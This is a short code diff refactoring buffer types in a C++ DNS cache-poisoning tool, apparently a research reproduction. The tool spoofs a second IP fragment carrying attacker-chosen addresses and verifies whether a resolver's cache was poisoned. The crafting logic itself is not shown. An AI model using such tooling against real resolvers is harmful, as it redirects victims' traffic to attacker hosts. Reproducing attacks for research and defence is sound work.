@@ -48,18 +48,17 @@ void CachePoisoner::fetch_template() {
   u16 port = stack_.ephemeral_port();
   auto got = std::make_shared<bool>(false);
   stack_.bind_udp(port, [this, got, port](const net::UdpEndpoint& from, u16,
-                                          BufView payload) {
+                                          const PacketBuf& payload) {
     if (from.addr != config_.ns_addr || *got) return;
     *got = true;
     stack_.unbind_udp(port);
-    template_response_ = payload.to_bytes();
     // Step 3 (§III-2/3): craft the spoofed fragment.
     CraftConfig cc;
     cc.ns_addr = config_.ns_addr;
     cc.resolver_addr = config_.resolver_addr;
     cc.mtu = config_.mtu;
     cc.malicious_addrs = config_.malicious_addrs;
-    crafted_ = craft_spoofed_second_fragment(template_response_, cc);
+    crafted_ = craft_spoofed_second_fragment(payload, cc);
     if (!crafted_) {
       DNSTIME_LOG(kWarn, "poisoner", "crafting failed (response too small "
                   "or no rewritable records)");
@@ -140,7 +139,7 @@ void CachePoisoner::verify_poisoned(const dns::DnsName& name,
   auto finished = std::make_shared<bool>(false);
   stack_.bind_udp(port, [this, done, port, finished](
                             const net::UdpEndpoint&, u16,
-                            BufView payload) {
+                            const PacketBuf& payload) {
     if (*finished) return;
     *finished = true;
     stack_.unbind_udp(port);
